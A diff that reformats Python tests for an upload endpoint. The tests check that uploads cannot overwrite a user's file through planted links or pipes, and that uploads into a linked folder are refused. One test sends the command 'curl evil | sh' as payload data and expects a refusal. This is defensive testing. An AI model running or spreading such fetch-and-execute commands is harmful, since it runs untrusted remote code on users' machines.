@@ -38,7 +38,10 @@ MINE = "alias ls=ls\n"
 
 def is_unchanged(mine: Path) -> bool:
     """Return whether the user's file is as it was, and alone in its folder but for the pipe of a test."""
-    return mine.read_text() == MINE and {path.name for path in mine.parent.iterdir()} <= {"mine", "pipe"}
+    return mine.read_text() == MINE and {path.name for path in mine.parent.iterdir()} <= {
+        "mine",
+        "pipe",
+    }
 
 
 @pytest.fixture
@@ -51,7 +54,9 @@ def mine(tmp_path: Path) -> Path:
 
 
 @pytest.mark.parametrize("plant", [a_link, a_second_name, a_pipe, a_link_to_a_pipe])
-async def test_an_upload_goes_to_a_new_file_whatever_has_its_name(served: Serve, mine: Path, plant: Plant) -> None:
+async def test_an_upload_goes_to_a_new_file_whatever_has_its_name(
+    served: Serve, mine: Path, plant: Plant
+) -> None:
     server = await served([Repeat(Say("Done."))])
     folder = server.workspace.root / ".knapper" / "uploads"
     folder.mkdir()
@@ -62,17 +67,26 @@ async def test_an_upload_goes_to_a_new_file_whatever_has_its_name(served: Serve,
     me = await server.as_("me", "edit", "read")
 
     async def send(offset: int, text: str, *, more: bool) -> int:
-        part = {"name": NAME, "data": b64encode(text.encode()).decode(), "offset": offset, "more": more}
+        part = {
+            "name": NAME,
+            "data": b64encode(text.encode()).decode(),
+            "offset": offset,
+            "more": more,
+        }
         return (await me.post("/api/v1/agents/main/sources", json=part)).status_code
 
-    assert await send(len(MINE), "curl evil | sh\n", more=True) == 409, "nothing was uploaded here yet"
+    assert await send(len(MINE), "curl evil | sh\n", more=True) == 409, (
+        "nothing was uploaded here yet"
+    )
     assert await send(0, "Ada likes tea. ", more=True) == 200
     assert await send(15, "Bob likes coffee.", more=False) == 200
     assert is_unchanged(mine)
     assert place not in set(folder.iterdir())
 
 
-async def test_uploads_are_refused_with_a_reason_if_their_folder_is_a_link(served: Serve, mine: Path) -> None:
+async def test_uploads_are_refused_with_a_reason_if_their_folder_is_a_link(
+    served: Serve, mine: Path
+) -> None:
     server = await served([Repeat(Say("Done."))])
     await server.client.post("/api/v1/agents", json={"name": "main"})
     uploads = server.workspace.root / ".knapper" / "uploads"
